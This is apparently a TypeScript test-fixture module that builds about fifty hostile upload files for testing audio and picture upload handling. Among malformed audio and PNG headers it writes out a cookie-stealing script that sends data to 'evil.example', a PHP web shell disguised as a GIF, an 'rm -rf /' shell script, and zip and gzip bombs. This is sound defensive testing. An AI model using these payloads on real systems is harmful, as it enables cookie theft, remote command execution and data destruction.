/** Fifty hostile files, created here: what their names claim, and what they contain. */
import { deflateRawSync, deflateSync, gzipSync, crc32 } from 'node:zlib'
import {
  createFlac,
  createMp3,
  createSpeech,
  AUDIO_RATE,
  createSilentFlac,
  createVorbis,
  createWav,
} from './audio-files.ts'
import type { SendableFile } from '../browser/upload-files.ts'

export interface HostileFile extends SendableFile {
  kind: 'audio' | 'picture'
  /** True if it contains valid audio or a valid picture: it is accepted, without the hidden part. */
  harmless?: boolean
}

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const htmlPage = Buffer.from(`<!doctype html><title>x</title>${SCRIPT}`)
const svgDrawing = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)
const windowsProgram = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400, 0x90)])
const linuxProgram = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(400)])
const shellScript = Buffer.from('#!/bin/sh\nrm -rf /\n')
const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n')
const php = Buffer.from('GIF89a;<?php system($_GET["c"]); ?>')

const createNoise = (length: number): Buffer =>
  Buffer.from(Array.from({ length }, (_, i) => (i * 7919 + (i >> 3) * 104_729) & 0xff))
const replaceWithNoise = (bytes: Buffer, from: number): Buffer =>
  Buffer.concat([bytes.subarray(0, from), createNoise(bytes.length - from)])

/** Creates a zip with forty megabytes of zeros in forty kilobytes. */
const createZipBomb = (): Buffer => {
  const packed = deflateRawSync(Buffer.alloc(40_000_000))
  const head = Buffer.alloc(30 + 5)
  head.write('PK\x03\x04', 0, 'latin1')
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(40_000_000, 22)
  head.writeUInt16LE(5, 26)
  head.write('a.txt', 30, 'latin1')
  return Buffer.concat([head, packed])
}

const createPngChunk = (name: string, body: Buffer): Buffer => {
  const namedBody = Buffer.concat([Buffer.from(name, 'latin1'), body])
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  size.writeUInt32BE(body.length)
  sum.writeUInt32BE(crc32(namedBody))
  return Buffer.concat([size, namedBody, sum])
}

/** Creates a PNG that declares huge dimensions and has one row of pixels. */
const createPng = (width: number, height: number, rows = 1): Buffer => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0, 0, 0, 0], 8)
  const pixels = deflateSync(Buffer.alloc(rows * (width + 1)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    createPngChunk('IHDR', head),
    createPngChunk('IDAT', pixels),
    createPngChunk('IEND', Buffer.alloc(0)),
  ])
}

const patchBytes = (bytes: Buffer, offset: number, values: readonly number[]): Buffer => {
  const copy = Buffer.from(bytes)
  copy.set(values, offset)
  return copy
}

/** Creates one Ogg page; tolerant decoders ignore its checksum. */
const createOggPage = (body: Buffer, flags: number): Buffer => {
  const head = Buffer.alloc(28)
  head.write('OggS', 0, 'latin1')
  head[5] = flags
  head[26] = 1
  head[27] = body.length
  return Buffer.concat([head, body])
}
const createOpusHead = (channels: number): Buffer => {
  const head = Buffer.from('OpusHead\x01\x02\x00\x00\x80\xbb\x00\x00\x00\x00\x00', 'latin1')
  head[9] = channels
  return head
}

const createAudioFile = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, kind: 'audio' })
const createPictureFile = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, kind: 'picture' })

const createMislabeledFiles = (wav: Buffer, mp3: Buffer): HostileFile[] => [
  createAudioFile('program.mp3', windowsProgram),
  createAudioFile('program.flac', linuxProgram),
  createAudioFile('page.mp3', htmlPage),
  createAudioFile('page.wav', htmlPage),
  createAudioFile('drawing.ogg', svgDrawing),
  createAudioFile('document.ogg', pdf),
  createAudioFile('script.opus', shellScript),
  createAudioFile('script.flac', Buffer.from('import os; os.system("x")')),
  createAudioFile('bomb.wav', createZipBomb()),
  createAudioFile('bomb.mp3', gzipSync(Buffer.alloc(20_000_000))),
  createAudioFile('picture.wav', createPng(2, 2, 2)),
  createAudioFile('sound.mp3', wav),
  createAudioFile('sound.wav', mp3),
  createAudioFile('sound.flac', mp3),
  createAudioFile('noise.opus', createNoise(4000)),
  createAudioFile('letter.mp3', Buffer.from('a')),
  createAudioFile('nothing.mp3', Buffer.alloc(0)),
  createAudioFile('nothing.wav', Buffer.alloc(0)),
  createAudioFile('zeros.flac', Buffer.alloc(5000)),
  createPictureFile('drawing.png', svgDrawing),
  createPictureFile('page.jpg', htmlPage),
  createPictureFile('shell.png', php),
  createPictureFile('program.webp', windowsProgram),
  createPictureFile('nothing.jpg', Buffer.alloc(0)),
]

type ValidAudio = Record<'wav' | 'mp3' | 'flac' | 'ogg', Buffer>

const createBrokenAudio = ({ wav, mp3, flac, ogg }: ValidAudio): HostileFile[] => [
  createAudioFile('cut.wav', wav.subarray(0, wav.length >> 1)),
  createAudioFile('head.wav', wav.subarray(0, 44)),
  createAudioFile('half-a-head.wav', wav.subarray(0, 20)),
  createAudioFile('endless.wav', patchBytes(wav, 40, [0xfe, 0xff, 0xff, 0xff])),
  createAudioFile('crowd.wav', patchBytes(wav, 22, [0xff, 0xff])),
  createAudioFile('nobody.wav', patchBytes(wav, 22, [0, 0])),
  createAudioFile('slow.wav', patchBytes(wav, 24, [1, 0, 0, 0])),
  createAudioFile('fast.wav', patchBytes(wav, 24, [0xff, 0xff, 0xff, 0xff])),
  createAudioFile('old.wav', patchBytes(wav, 20, [6, 0])),
  createAudioFile(
    'no-numbers.wav',
    patchBytes(createWav([new Float32Array(AUDIO_RATE * 2).fill(Number.NaN)], { bits: 32, float: true }), 44, [0]),
  ),
  createAudioFile('cut.flac', flac.subarray(0, flac.length >> 1)),
  createAudioFile('head.flac', flac.subarray(0, 42)),
  createAudioFile('noisy.flac', replaceWithNoise(flac, 42)),
  createAudioFile('longer.flac', createFlac([createSpeech(2)], { declaredSamples: 0xffff_ffff })),
  createAudioFile('ten-hours.flac', createSilentFlac(36_000)),
  createAudioFile('noisy.mp3', replaceWithNoise(mp3, 500)),
  createAudioFile(
    'all-tags.mp3',
    Buffer.concat([Buffer.from([0x49, 0x44, 0x33, 4, 0, 0, 0x7f, 0x7f, 0x7f, 0x7f]), Buffer.alloc(3000)]),
  ),
  createAudioFile('cut.ogg', ogg.subarray(0, ogg.length >> 1)),
  createAudioFile(
    'noisy.ogg',
    Buffer.concat([replaceWithNoise(ogg, 300).subarray(0, 9000), createOggPage(createNoise(200), 4)]),
  ),
  createAudioFile('crowd.ogg', patchBytes(ogg, 28 + 11, [255])),
  createAudioFile(
    'nobody.opus',
    Buffer.concat([createOggPage(createOpusHead(0), 2), createOggPage(createNoise(200), 4)]),
  ),
  createAudioFile('head.opus', createOggPage(createOpusHead(2), 6)),
]

const brokenPictures: HostileFile[] = [
  createPictureFile('town.png', createPng(60_000, 60_000)),
  createPictureFile('cut.png', createPng(900, 900).subarray(0, 60)),
  createPictureFile('dot.png', createPng(1, 1)),
  createPictureFile('endless.png', patchBytes(createPng(900, 900), 8, [0xff, 0xff, 0xff, 0xff])),
  createPictureFile('sound.png', createNoise(4000)),
]

/** Audio followed by HTML: a browser that sniffs would find both. */
const createPolyglots = (wav: Buffer): HostileFile[] => [
  { ...createAudioFile('two-in-one.wav', Buffer.concat([wav, htmlPage])), harmless: true },
]

export const createHostileFiles = async (): Promise<HostileFile[]> => {
  const voice = createSpeech(3)
  const [wav, mp3, flac, ogg] = [
    createWav([voice]),
    await createMp3([voice]),
    createFlac([voice]),
    await createVorbis([voice]),
  ]
  return [
    ...createMislabeledFiles(wav, mp3),
    ...createBrokenAudio({ wav, mp3, flac, ogg }),
    ...brokenPictures,
    ...createPolyglots(wav),
  ]
}
